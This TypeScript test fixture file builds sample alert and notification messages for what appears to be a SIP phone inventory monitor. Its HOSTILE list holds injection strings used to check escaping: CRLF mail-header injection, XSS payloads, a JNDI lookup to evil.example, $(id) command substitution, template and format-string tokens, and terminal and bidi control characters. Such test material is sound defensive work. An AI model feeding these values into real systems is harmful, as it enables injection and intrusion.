import type { Alert, AlertSubject, Message } from '../../../src/model/alert.ts';
import type { FindingKind } from '../../../src/model/finding.ts';

/** 25 November 2026, 01:02:03.004 UTC. */
export const AT = Date.UTC(2026, 10, 25, 1, 2, 3, 4);

export const subject = (change: Partial<AlertSubject> = {}): AlertSubject => ({
  device: 'd7',
  vendor: 'Acme',
  model: 'P10',
  firmware: '1.2.3',
  mac: '001565aabbcc',
  address: '192.168.10.20',
  level: 'unsupported',
  ...change,
});

export const alert = (change: Partial<Alert> = {}): Alert => ({
  key: 'unsupported d7',
  kind: 'unsupported',
  severity: 'critical',
  subject: subject(),
  about: null,
  state: 'firing',
  since: AT - 60_000,
  resolvedAt: null,
  seq: 17,
  because: {
    en: 'The policy names Acme P10 as unsupported.',
    nl: 'Het beleid noemt Acme P10 niet ondersteund.',
  },
  ...change,
});

export const message = (change: Partial<Message> = {}): Message => ({
  id: 'sipcensus.head-office.17',
  at: AT,
  reason: 'firing',
  group: 'head-office/unsupported',
  site: { id: 'head-office', name: 'Head office', timezone: 'Europe/Amsterdam' },
  language: 'en',
  alerts: [alert()],
  more: 0,
  figures: null,
  link: 'https://sipcensus.example/alerts',
  ...change,
});

export const resolvedMessage = (): Message =>
  message({
    id: 'sipcensus.head-office.18',
    reason: 'resolved',
    alerts: [alert({ state: 'resolved', resolvedAt: AT, seq: 18 })],
  });

export const digestMessage = (): Message =>
  message({
    id: 'sipcensus.head-office.digest.1',
    reason: 'digest',
    group: 'head-office/digest',
    alerts: [],
    figures: {
      from: AT - 7 * 86_400_000,
      to: AT,
      phones: 42,
      byLevel: { full: 30, partial: 4, basic: 6, unsupported: 2 },
      findings: { appeared: 3, gone: 1 },
    },
  });

export const testMessage = (): Message =>
  message({ id: 'sipcensus.head-office.test.1', reason: 'test', group: 'head-office/test', alerts: [] });

/** Texts of strangers that have broken something somewhere: mail headers, HTML, JSON, chat markup, syslog, terminals, UTF-16. */
export const HOSTILE = [
  'a\r\nBcc: victim@example.com\r\n\r\nbody',
  'nul \u0000 escape \u001b[2J\u0007 c1 \u009b31m delete \u007f',
  'quote " backslash \\ bracket ] = [x@1 y="z"]',
  '<script>alert(1)</script>&amp;<img src=x onerror=alert(1)>',
  '<!channel> <@U123> @all @everyone *bold* _it_ ~no~ `code` [link](http://evil.example) <http://evil.example|x>',
  'lone \ud800 surrogate \udc00 halves \ud83d',
  'right \u202e to left \u2066 isolates \u2028 line \u2029 paragraph \ufeff bom',
  '${jndi:ldap://evil.example/a} {{7*7}} $(id) `id` %n%s%0a %x',
  '.\r\n.\r\nQUIT\r\n',
  '\u{1f4de}'.repeat(400),
  '__proto__',
  '',
] as const;

/** A message whose every text that a stranger can reach is this one. */
export function hostileMessage(text: string, change: Partial<Message> = {}): Message {
  const because = { en: text, nl: text };
  const told = subject({ vendor: text, model: text, firmware: text, mac: text, address: text });
  return message({
    site: { id: 'head-office', name: text, timezone: 'Europe/Amsterdam' },
    alerts: [
      alert({ because, about: text, subject: told }),
      alert({ kind: 'scanner', because, about: text, subject: null }),
    ],
    ...change,
  });
}

const KINDS: readonly FindingKind[] = ['unsupported', 'gone', 'duplicate-mac', 'appeared'];

/** As large as a message gets: fifty alerts, each text of a stranger 1,024 characters long. */
export function largestMessage(): Message {
  const alerts = Array.from({ length: 50 }, (_, index) => {
    const text = (word: string): string => `${word}${index} "\\]<é☎> `.repeat(100).slice(0, 1024);
    return alert({
      key: `unsupported d${index}`,
      kind: KINDS[index % KINDS.length] ?? 'gone',
      seq: 100 + index,
      about: text('about'),
      because: { en: text('because'), nl: text('omdat') },
      subject: subject({
        device: `d${index}`,
        vendor: text('vendor'),
        model: text('model'),
        firmware: text('firmware'),
      }),
    });
  });
  return message({ id: 'sipcensus.head-office.149', alerts, more: 123 });
}
